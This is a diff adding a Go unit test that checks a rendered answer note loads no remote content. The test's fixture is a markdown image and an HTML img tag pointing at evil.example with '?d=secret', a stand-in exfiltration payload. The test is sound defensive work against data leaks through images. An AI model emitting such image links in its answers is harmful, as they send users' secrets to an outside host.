@@ -422,6 +422,13 @@ func TestResearchIsAskedWithItsPlanAndItsReportIsTheNote(t *testing.T) {
 	}
 }
 
+func TestTheNoteOfAnAnswerLoadsNothingFromElsewhere(t *testing.T) {
+	note := string(render(&Job{Type: Text, Answer: "Ferns.\n\n![x](https://evil.example/?d=secret) <img src=\"https://evil.example/\">"}, "", 0, "", ""))
+	if strings.Contains(note, "![") || strings.Contains(note, "<img") || !strings.Contains(note, "[x](https://evil.example/?d=secret)") {
+		t.Errorf("%s", note)
+	}
+}
+
 func TestReadersFollowAJobFromWhereTheyWere(t *testing.T) {
 	s, _ := newService(t, echo)
 	j := submit(t, s, Spec{Prompt: "x"})
